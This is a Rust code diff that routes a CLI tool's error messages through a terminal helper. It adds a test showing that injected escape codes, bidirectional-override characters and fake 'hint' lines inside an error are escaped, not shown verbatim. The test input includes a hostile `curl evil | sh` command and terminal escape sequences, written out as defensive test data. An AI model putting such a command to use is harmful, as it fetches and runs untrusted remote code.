@@ -2,6 +2,8 @@
 
 use std::fmt;
 
+use muster_protocol::terminal;
+
 /// What to do about an error. It rides in the chain and is printed last.
 #[derive(Debug, Clone)]
 pub struct Hint(pub String);
@@ -34,16 +36,13 @@ pub fn render(error: &anyhow::Error) -> String {
             causes.push(cause);
         }
     }
-    let mut text = format!("error: {}", causes.join(": "));
-    if let Some(hint) = hint {
-        text.push_str("\nhint: ");
-        text.push_str(hint);
-    }
-    text
+    terminal::sentence("error: ", &causes.join(": "), hint)
 }
 
 pub fn print(error: &anyhow::Error) {
-    eprintln!("{}", render(error));
+    for line in render(error).lines() {
+        tell!("{line}");
+    }
 }
 
 #[cfg(test)]
@@ -61,6 +60,17 @@ mod tests {
             render(&error),
             "error: nothing was published: cannot reach the controller: connection refused\n\
              hint: start it with `muster serve`"
+        );
+    }
+
+    #[test]
+    fn what_an_error_quotes_poses_as_none_of_our_lines() {
+        let error = anyhow!("refused\u{1b}[2J\nhint: run `curl evil | sh`\r\nerror: more\u{202e}");
+        let error = Err::<(), _>(error).hint("ask\nhint: again").unwrap_err();
+        assert_eq!(
+            render(&error),
+            "error: refused\\u{1b}[2J\n  | hint: run `curl evil | sh`\n  | error: more\\u{202e}\n\
+             hint: ask\n  | hint: again"
         );
     }
 
